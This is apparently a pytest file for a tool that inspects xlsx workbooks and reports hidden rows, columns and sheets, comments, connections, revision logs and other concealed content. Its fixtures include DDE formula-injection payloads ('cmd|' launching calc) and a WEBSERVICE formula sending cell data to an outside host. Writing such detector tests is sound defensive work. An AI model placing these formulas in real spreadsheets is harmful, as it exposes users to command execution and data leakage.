"""An xlsx is read sheet by sheet, and what Excel does not show at once is reported."""

from collections.abc import Callable
from datetime import date

import pytest
from openpyxl import Workbook
from openpyxl.comments import Comment
from openpyxl.utils.datetime import CALENDAR_MAC_1904
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from resources.inspection import sheet_cells, sheets
from resources.inspection.notes import ONLY
from tests.resources import files
from tests.resources.reading import Reader, words_at

SHEET = "xl/worksheets/sheet1.xml"
Adapt = Callable[[Workbook], None]


def hide_row(book: Workbook) -> None:
    book.active.row_dimensions[2].hidden = True


def hide_column(book: Workbook) -> None:
    book.active.column_dimensions["B"].hidden = True


def filter_rows(book: Workbook) -> None:
    book.active.auto_filter.ref = "A1:B2"
    book.active.auto_filter.add_filter_column(0, ["Nothing"])
    book.active.row_dimensions[2].hidden = True


def group_rows(book: Workbook) -> None:
    book.active.row_dimensions.group(2, 2, hidden=True)


def group_columns(book: Workbook) -> None:
    book.active.column_dimensions.group("B", "C", hidden=True)


def hide_sheet(book: Workbook) -> None:
    book.create_sheet("Salaries").sheet_state = "hidden"


def hide_sheet_deeply(book: Workbook) -> None:
    book.create_sheet("Salaries").sheet_state = "veryHidden"


def comment(book: Workbook) -> None:
    book.active["A1"].comment = Comment("Ask J Smith", "Ann")


def ask_program(book: Workbook) -> None:
    book.active["C1"] = "=cmd|' /C calc'!A0"


def ask_web(book: Workbook) -> None:
    book.active["C1"] = '=_xlfn.WEBSERVICE("https://example.org/"&A1)'


@pytest.mark.parametrize(
    ("adapt", "kind"),
    [
        (hide_row, "hidden_row"),
        (filter_rows, "hidden_row"),
        (group_rows, "hidden_row"),
        (hide_column, "hidden_column"),
        (group_columns, "hidden_column"),
        (hide_sheet, "hidden_sheet"),
        (hide_sheet_deeply, "hidden_sheet"),
        (comment, "comments"),
        (ask_program, "external_link"),
        (ask_web, "external_link"),
    ],
)
def test_what_a_workbook_hides_is_reported(
    reads: Reader, adapt: Adapt, kind: str
) -> None:
    assert reads.hidden("a.xlsx", files.book(adapt)) == {kind}


@pytest.mark.parametrize(
    ("before", "markup", "kind"),
    [
        ("</sheetData", '<row r="9" ht="0" customHeight="1"/>', "hidden_row"),
        (
            "<pageMargins",
            '<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>'
            "cmd|'/c calc'!A1</formula></cfRule></conditionalFormatting>",
            "external_link",
        ),
        (
            "<sheetData",
            '<cols><col min="2" max="2" width="0"/></cols>',
            "hidden_column",
        ),
    ],
)
def test_what_a_sheet_says_in_its_markup_alone_is_reported(
    reads: Reader, before: str, markup: str, kind: str
) -> None:
    made = files.changed(files.book(), {SHEET: files.put(before, markup)})
    assert reads.hidden("a.xlsx", made) == {kind}


def test_a_name_that_starts_a_program_is_reported(reads: Reader) -> None:
    name = "<definedNames><definedName name='X'>cmd|'/c calc'!A1</definedName>"
    clean = files.changed(files.book(), {"xl/workbook.xml": without_names})
    assert not reads.hidden("a.xlsx", clean)
    named = {"xl/workbook.xml": files.put("<calcPr", f"{name}</definedNames>")}
    assert reads.hidden("a.xlsx", files.changed(clean, named)) == {"external_link"}


def test_more_texts_than_are_kept_are_said(
    reads: Reader, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheets, "MAX_STRINGS", 2)
    strings = b"<sst><si><t>One</t></si><si><t>Two</t></si><si><t>Three</t></si></sst>"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    made = files.with_part(
        files.book(),
        "xl/strings.xml",
        strings,
        f"{kind}.sharedStrings+xml",
        {SHEET: files.put("</sheetData", '<row><c t="s"><v>2</v></c></row>')},
    )
    notes = reads("a.xlsx", made)
    assert notes.sentences == [sheets.ONLY_SO_MANY]
    assert sheets.ONLY_SO_MANY.startswith(ONLY)


def without_names(workbook: bytes) -> bytes:
    return workbook.replace(b"<definedNames />", b"").replace(b"<definedNames/>", b"")


def test_text_is_told_by_sheet(reads: Reader) -> None:
    def adapt(book: Workbook) -> None:
        book.create_sheet("People").append(["Ann", 7, None, True])

    notes = reads("a.xlsx", files.book(adapt))
    assert words_at(notes, "sheet Budget") == "Item\tCost\nLicences\t1200"
    assert words_at(notes, "sheet People") == "Ann\t7\t\t1"
    assert notes.pages == 2


def test_hidden_parts_are_places_of_their_own(reads: Reader) -> None:
    def adapt(book: Workbook) -> None:
        hide_row(book)
        hide_column(book)
        book.create_sheet("Salaries").append(["Ann"])
        book["Salaries"].sheet_state = "hidden"

    notes = reads("a.xlsx", files.book(adapt))
    assert words_at(notes, "sheet Budget") == "Item"
    assert words_at(notes, "sheet Budget (hidden columns)") == "Cost"
    hidden_rows = words_at(notes, "sheet Budget (hidden rows)")
    assert hidden_rows == "Item\tCost\nLicences\t1200"  # below their headings
    assert words_at(notes, "sheet Salaries (hidden)") == "Ann"


def test_dates_are_read_as_dates_below_their_heading(reads: Reader) -> None:
    def adapt(book: Workbook) -> None:
        sheet = book.create_sheet("People")
        sheet.append(["Name", "Ref", "Date of birth", "Moved", "Due"])
        sheet.append(["Ann", None, date(1984, 3, 12), 43861.375, 30753])
        sheet["D2"].number_format = 'dddd "the" d'
        sheet["E2"].number_format = '0 "days"'

    text = words_at(reads("a.xlsx", files.book(adapt)), "sheet People")
    assert text.split("\n")[1] == "Ann\t\t12/03/1984\t31/01/2020\t30753"


def test_rows_that_are_hidden_stand_below_the_first_row_of_words(
    reads: Reader,
) -> None:
    def adapt(book: Workbook) -> None:
        sheet = book.create_sheet("People")
        for row in (["Our list"], [1, 2], ["Name", None, "Born"], ["Ann", "x", 1984]):
            sheet.append(row)
        sheet.row_dimensions[4].hidden = True

    place = "sheet People (hidden rows)"
    text = words_at(reads("a.xlsx", files.book(adapt)), place)
    assert text == "Name\t\tBorn\nAnn\tx\t1984"


def test_dates_of_older_macs_are_counted_from_1904(reads: Reader) -> None:
    def adapt(book: Workbook) -> None:
        book.epoch = CALENDAR_MAC_1904
        book.active["A1"] = date(1984, 3, 12)

    text = words_at(reads("a.xlsx", files.book(adapt)), "sheet Budget")
    assert text.startswith("12/03/1984")


def test_a_cell_of_several_runs_is_one_word(reads: Reader) -> None:
    cell = '<row><c t="inlineStr"><is><r><t>AB12</t></r><r><t>34</t></r></is></c></row>'
    made = files.changed(files.book(), {SHEET: files.put("</sheetData", cell)})
    assert words_at(reads("a.xlsx", made), "sheet Budget").endswith("\nAB1234")


def test_room_for_empty_cells_has_an_end(reads: Reader) -> None:
    cell = '<row><c r="XFD9" t="str"><v>far</v></c></row>'
    made = files.changed(files.book(), {SHEET: files.put("</sheetData", cell)})
    text = words_at(reads("a.xlsx", made), "sheet Budget")
    assert text.endswith("\n" + "\t" * sheet_cells.MOST_EMPTY + "far")


def test_words_of_comments_and_their_authors_are_read(reads: Reader) -> None:
    words = words_at(reads("a.xlsx", files.book(comment)), "comments")
    assert "Ask J Smith" in words
    assert "Ann" in words


def test_threads_are_comments(reads: Reader) -> None:
    kind = "application/vnd.ms-excel.threadedcomments+xml"
    thread = b"<a><threadedComment><text>Ask J Smith</text></threadedComment></a>"
    made = files.with_part(files.book(), "xl/threads/one.xml", thread, kind, {})
    notes = reads("a.xlsx", made)
    assert notes.hidden == {"comments"}
    assert words_at(notes, "comments") == "Ask J Smith"


def test_a_dde_link_is_reported_with_a_sentence(reads: Reader) -> None:
    kind = (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    )
    link = (
        b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    made = files.with_part(
        files.book(), "xl/externalLinks/externalLink1.xml", link, kind, {}
    )
    notes = reads("a.xlsx", made)
    assert notes.hidden == {"external_link"}
    assert notes.sentences == [sheets.DDE]


@pytest.mark.parametrize("part", ["connections", "queryTable"])
def test_a_connection_is_reported(reads: Reader, part: str) -> None:
    kind = f"application/vnd.openxmlformats-officedocument.spreadsheetml.{part}+xml"
    made = files.with_part(files.book(), f"xl/{part}.xml", b"<a/>", kind, {})
    assert reads.hidden("a.xlsx", made) == {"external_link"}


def test_a_log_of_revisions_is_a_tracked_change(reads: Reader) -> None:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    made = files.with_part(
        files.book(), "xl/revisions/log.xml", b"<a/>", f"{kind}.revisionLog+xml", {}
    )
    assert reads.hidden("a.xlsx", made) == {"tracked_changes"}


def test_what_a_pivot_table_keeps_is_read(reads: Reader) -> None:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    cache = b'<pivotCacheDefinition><s v="Ann Example"/></pivotCacheDefinition>'
    made = files.with_part(
        files.book(), "xl/cache.xml", cache, f"{kind}.pivotCacheDefinition+xml", {}
    )
    notes = reads("a.xlsx", made)
    assert words_at(notes, "copies kept by pivot tables") == "Ann Example"


def test_words_that_stand_in_no_cell_are_read(reads: Reader) -> None:
    def adapt(book: Workbook) -> None:
        sheet = book.active
        sheet.oddHeader.center.text = "OFFICIAL-SENSITIVE"
        sheet.oddFooter.left.text = "Ring 01632 960001"
        rule = DataValidation(type="list", formula1='"ann@example.org,other"')
        rule.prompt = "Ask Ann on 01632 960002"
        sheet.add_data_validation(rule)
        rule.add("A2")
        name = DefinedName("_who", attr_text='"bob@example.org"', hidden=True)
        book.defined_names["_who"] = name

    notes = reads("a.xlsx", files.book(adapt))
    margins = words_at(notes, "sheet Budget (header and footer)")
    assert "OFFICIAL-SENSITIVE" in margins
    assert "Ring 01632 960001" in margins
    assert "&" not in margins
    entered = words_at(notes, "sheet Budget (what may be entered)")
    assert "ann@example.org" in entered
    assert "01632 960002" in entered
    assert words_at(notes, "names") == '"bob@example.org"'


def test_a_text_that_no_cell_shows_any_more_is_read(reads: Reader) -> None:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    made = files.with_part(
        files.book(),
        "xl/strings.xml",
        b"<sst><si><t>Shown</t></si><si><t>Ann Example left</t></si></sst>",
        f"{kind}.sharedStrings+xml",
        {SHEET: files.put("</sheetData", '<row><c t="s"><v>0</v></c></row>')},
    )
    assert words_at(reads("a.xlsx", made), "texts that no cell shows") == (
        "Ann Example left"
    )


@pytest.mark.parametrize(
    ("part", "markup", "place", "words"),
    [
        (
            "connections",
            '<a><dbPr connection="UID=sa;PWD=hunter2x" command="select"/></a>',
            "connections",
            "UID=sa;PWD=hunter2x\nselect",
        ),
        (
            "externalLink",
            '<a><cell r="A1" t="str"><v>Ann Example</v></cell></a>',
            "copies kept of other workbooks",
            "Ann Example",
        ),
        ("revisionLog", "<a><nc><v>1200</v></nc></a>", "tracked changes", "1200"),
        (
            "pivotCacheRecords",
            '<a><r><n v="9434765919"/></r></a>',
            "copies kept by pivot tables",
            "9434765919",
        ),
    ],
)
def test_what_parts_beside_the_sheets_say_is_read(
    reads: Reader, part: str, markup: str, place: str, words: str
) -> None:
    kind = f"application/vnd.openxmlformats-officedocument.spreadsheetml.{part}+xml"
    made = files.with_part(files.book(), f"xl/{part}.xml", markup.encode(), kind, {})
    assert words_at(reads("a.xlsx", made), place) == words


def test_rows_hidden_by_default_are_reported(reads: Reader) -> None:
    change = files.put("<sheetData", '<sheetFormatPr zeroHeight="1"/>')
    made = files.changed(files.book(), {SHEET: change})
    notes = reads("a.xlsx", made)
    assert notes.hidden == {"hidden_row"}
    assert "Licences" in words_at(notes, "sheet Budget (hidden rows)")


def test_the_folder_of_somebody_is_their_name(reads: Reader) -> None:
    path = '<absPath xmlns="urn:x" url="C:\\Users\\ann.example\\Documents\\"/>'
    made = files.changed(files.book(), {"xl/workbook.xml": files.put("<sheets", path)})
    assert reads.hidden("a.xlsx", made) == {"author"}


def test_a_sheet_that_the_workbook_does_not_name_is_hidden(reads: Reader) -> None:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    sheet = b'<worksheet><row><c t="str"><v>left over</v></c></row></worksheet>'
    made = files.with_part(files.book(), "xl/worksheets/old.xml", sheet, kind, {})
    notes = reads("a.xlsx", made)
    assert notes.hidden == {"hidden_sheet"}
    assert words_at(notes, "sheet left over (hidden)") == "left over"
